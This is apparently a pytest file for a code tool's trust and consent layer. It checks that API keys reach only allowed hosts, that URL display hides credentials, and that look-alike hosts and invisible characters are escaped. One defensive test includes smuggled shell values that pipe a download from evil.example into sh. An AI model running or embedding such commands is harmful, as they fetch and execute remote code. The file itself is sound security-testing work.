"""Which host a key may go to, what consent is remembered for, and what a URL prints as."""

from __future__ import annotations

import os
import shlex
from pathlib import Path

import pytest

from codex_lsp.consent import not_allowed_message
from codex_lsp.providers.select import BackendChoice, provider_config
from codex_lsp.settings import Environment, Settings
from codex_lsp.trust import (
    TrustStore,
    consent_value,
    describe,
    display_url,
    key_for,
    origin,
    shorten,
)

KEY = "sk-test-trust-0123456789"


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("https://api.openai.com/v1", "https://api.openai.com"),
        ("HTTPS://API.OpenAI.com:443/v1/", "https://api.openai.com"),
        ("http://user:pw@127.0.0.1:8080/v1", "http://127.0.0.1:8080"),
        ("http://[::1]:9000", "http://[::1]:9000"),
        ("http://evil.example.com@127.0.0.1:1/v1", "http://127.0.0.1:1"),
    ],
    ids=["openai", "case-and-default-port", "credentials", "ipv6", "userinfo-trick"],
)
def test_origin(url: str, expected: str) -> None:
    assert origin(url) == expected


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        ("http://127.0.0.1:8080/v1", "http://127.0.0.1:8080/v1"),
        ("https://bob:hunter2@gw.example/v1?key=abc", "https://***@gw.example/v1?..."),
        ("https://gw.example/" + "a" * 300, "https://gw.example/" + "a" * 98 + "..."),
    ],
    ids=["plain", "credentials-and-query", "long"],
)
def test_display_url_hides_credentials(url: str, expected: str) -> None:
    assert display_url(url) == expected


@pytest.mark.parametrize(
    ("base_url", "env_base_url", "expected"),
    [
        (None, None, KEY),
        ("https://api.openai.com/v1", None, KEY),
        ("http://127.0.0.1:8080/v1", "http://127.0.0.1:8080/v1", KEY),
        ("http://127.0.0.1:8080/other", "http://127.0.0.1:8080/v1", KEY),
        ("http://127.0.0.1:9999/v1", "http://127.0.0.1:8080/v1", None),
        ("http://api.openai.com/v1", None, None),
        ("https://gateway.example/v1", None, None),
    ],
    ids=[
        "openai-default",
        "openai-named",
        "environment-host",
        "environment-host-other-path",
        "another-port",
        "openai-over-plain-http",
        "settings-host",
    ],
)
def test_the_environment_key_is_bound_to_its_hosts(
    base_url: str | None, env_base_url: str | None, expected: str | None
) -> None:
    assert key_for(base_url, KEY, env_base_url) == expected


@pytest.mark.parametrize("kind", ["openai", "openai-compatible"])
def test_provider_config_never_gives_the_key_to_a_settings_host(kind: str) -> None:
    env = Environment(api_key=KEY, base_url=None)
    choice = BackendChoice(kind, "test", ["m"], "http://127.0.0.1:9999/v1")
    config = provider_config(choice, Settings(), env)
    assert (config.api_key, config.base_url) == (None, "http://127.0.0.1:9999/v1")


def test_provider_config_names_openai_explicitly() -> None:
    # Without a base URL the SDK would read OPENAI_BASE_URL itself, past this decision.
    config = provider_config(
        BackendChoice("openai", "t", ["m"], None), Settings(), Environment(KEY, None)
    )
    assert (config.api_key, config.base_url) == (KEY, "https://api.openai.com/v1")


def test_consent_is_remembered_per_host_and_revocable(tmp_path: Path) -> None:
    store = TrustStore(tmp_path)
    assert not store.allows("baseUrl", "http://127.0.0.1:8080/v1")
    store.allow("baseUrl", "http://127.0.0.1:8080/v1")
    assert store.allows("baseUrl", "http://127.0.0.1:8080/other-path")
    assert not store.allows("baseUrl", "http://127.0.0.1:8081/v1")
    assert not store.allows("localModelPath", "http://127.0.0.1:8080/v1")
    assert os.stat(store.path).st_mode & 0o777 == 0o600
    assert TrustStore(tmp_path).revoke("baseUrl", "http://127.0.0.1:8080")
    assert not store.allows("baseUrl", "http://127.0.0.1:8080/v1")


def test_a_model_path_is_allowed_as_its_real_file(tmp_path: Path) -> None:
    model = tmp_path / "m.gguf"
    model.write_bytes(b"x")
    link = tmp_path / "link.gguf"
    link.symlink_to(model)
    store = TrustStore(tmp_path / "state")
    store.allow("localModelPath", str(link))
    assert store.allows("localModelPath", str(model))


def test_a_broken_trust_file_trusts_nothing(tmp_path: Path) -> None:
    (tmp_path / "trusted.json").write_text("{not json")
    assert TrustStore(tmp_path).entries() == []


@pytest.mark.parametrize(
    ("url", "expected"),
    [
        # A Cyrillic a for the Latin one: the consent question read as OpenAI's host.
        ("https://\u0430pi.openai.com/v1", "https://xn--pi-6kc.openai.com"),
        ("https://b\u00fccher.example/v1", "https://xn--bcher-kva.example"),
        ("https://api.openai.com/v1", "https://api.openai.com"),
    ],
)
def test_a_host_is_asked_about_in_the_form_it_is_reached_by(url: str, expected: str) -> None:
    """A look-alike host must not read as OpenAI's in the consent question: a host that is not
    ASCII is shown as the IDNA name the connection uses."""
    assert describe("baseUrl", consent_value("baseUrl", url)) == expected


def test_invisible_characters_in_a_value_shown_are_escaped() -> None:
    """A right-to-left override in a model path turned `evil<RLO>fuggf.gguf` into
    `evilgguf.fgguf` on screen: what the user is asked about is what they read."""
    shown = describe("localModelPath", "/tmp/models/evil\u202efuggf.gguf")
    assert "\u202e" not in shown and "\\u202e" in shown
    assert "\x1b" not in shorten("x\x1b[2Jy")


@pytest.mark.parametrize(
    ("setting", "value"),
    [
        ("baseUrl", "https://evil.example$(curl -s evil.example|sh)/v1"),
        ("localModelPath", "/tmp/m.gguf;curl evil.example|sh"),
        ("localModelPath", "/tmp/it's a model.gguf"),
    ],
)
def test_the_command_a_refusal_suggests_runs_nothing_but_itself(setting: str, value: str) -> None:
    """The refusal tells the user which command allows the value: a repository's value with
    shell syntax in it (a host `$(...)`, a path `;...`) must not run when pasted in a shell."""
    message = not_allowed_message(setting, value)
    command = message.split("`")[1]
    assert shlex.split(command) == ["codex-lsp", "trust", "allow", consent_value(setting, value)]
